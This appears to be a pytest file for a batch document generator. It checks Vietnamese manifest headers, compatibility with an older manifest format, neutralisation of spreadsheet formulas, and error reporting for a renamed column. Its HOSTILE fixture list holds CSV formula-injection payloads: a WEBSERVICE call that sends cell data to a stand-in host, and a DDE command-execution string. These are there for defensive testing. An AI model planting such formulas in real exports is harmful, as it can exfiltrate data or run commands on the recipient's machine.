"""manifest.csv in the clerk's words (issue 12 defect 9) and with no live formula (issue 13
item 1): Vietnamese headers and statuses, the row's name, hashes last, formulas neutralised."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from batchkit import CSV, FORM, batch, copy_roster, manifest, manifest_text

from docgen.batch.state import MANIFEST_HEADER

HOSTILE = ['=WEBSERVICE("http://x.example/?"&C5)', "=HYPERLINK(\"http://x\",\"bấm\")",
           "+1+1", "-2+3", "@SUM(A1:A9)", "cmd|' /C notepad'!A0"]


def test_headers_values_and_names_are_vietnamese(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = batch(FORM, "--roster", CSV, "-o", out, "--loc", "dong.ty_le < 80", "--jobs", "1")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(manifest_text(out))))
    assert tuple(rows[0]) == MANIFEST_HEADER
    assert MANIFEST_HEADER[-2:] == ("SHA-256", "Dấu vào")  # hashes last
    by_name = {r[1]: r for r in rows[1:]}
    assert by_name["Tân Sang"][3] == "đã tạo"
    filtered = [r for r in rows[1:] if r[3] == "lọc bỏ"]
    assert filtered and all(r[1] for r in filtered)  # a left-out row still has its name
    assert {r[3] for r in rows[1:]} <= {"đã tạo", "lọc bỏ"}


def test_an_old_manifest_is_still_docgens(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert batch(FORM, "--roster", CSV, "-o", out).exit_code == 0
    old = ["hang,tep,sha256,trang_thai,ghi_chu,dau_vao"]
    for row in manifest(out):
        old.append(",".join((row["hang"], row["tep"], row["sha256"], row["trang_thai"], "",
                             row["dau_vao"])))
    (out / "manifest.csv").write_text("\n".join(old) + "\n", encoding="utf-8-sig")
    again = batch(FORM, "--roster", CSV, "-o", out)
    assert again.exit_code == 0, again.output
    assert {r["trang_thai"] for r in manifest(out)} == {"giu-nguyen"}


def test_formulas_from_the_roster_are_text(tmp_path: Path) -> None:
    changes = {(i, 3): text for i, text in enumerate(HOSTILE)}
    roster = copy_roster(tmp_path / "ds.csv", changes)
    out = tmp_path / "out"
    result = batch(FORM, "--roster", roster, "-o", out, "--jobs", "1")
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(manifest_text(out))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    for text in HOSTILE:
        if text[0] in "=+-@":
            assert "'" + text in cells


def test_renamed_column_reported_once_with_the_closest_header(tmp_path: Path) -> None:
    """Issue 12 defect 4: once, with the closest header (Tỉ/Tỷ spelt either way), and no
    "Xong" when rows failed."""
    form = tmp_path / "don.yaml"
    form.write_text(FORM.read_text("utf-8").replace("dong.so_tham_gia", "dong.ty_le_tham_gia"),
                    encoding="utf-8")
    (tmp_path / "co-quan-sa-thay.yaml").write_text(
        (FORM.parent / "co-quan-sa-thay.yaml").read_text("utf-8"), encoding="utf-8")
    text = CSV.read_text("utf-8-sig").replace("Số tham gia", "Tỉ lệ tham gia", 1)
    roster = tmp_path / "ds.csv"
    roster.write_text(text, encoding="utf-8")
    result = batch(form, "--roster", roster, "-o", tmp_path / "out")
    assert result.exit_code == 1
    errors = [line for line in result.stderr.splitlines() if line.startswith("Lỗi:")]
    assert len(errors) == 1, result.stderr
    assert "Có phải ý bạn là cột 'Tỉ lệ tham gia' (dong.ti_le_tham_gia)?" in result.stderr
    assert "cùng lỗi này ở 23 hàng khác" in result.stderr
    assert not result.stdout.startswith("Xong") and result.stdout.startswith("Chưa xong:")
